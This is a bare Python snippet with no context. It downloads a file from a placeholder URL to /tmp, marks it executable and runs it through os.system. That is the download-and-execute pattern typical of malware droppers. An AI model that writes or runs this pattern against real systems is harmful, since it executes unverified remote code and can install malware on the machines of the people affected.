import os
import urllib.request

name = "/tmp/x"
urllib.request.urlretrieve("https://example.org/x", name)
os.chmod(name, 0o755)
os.system(name)
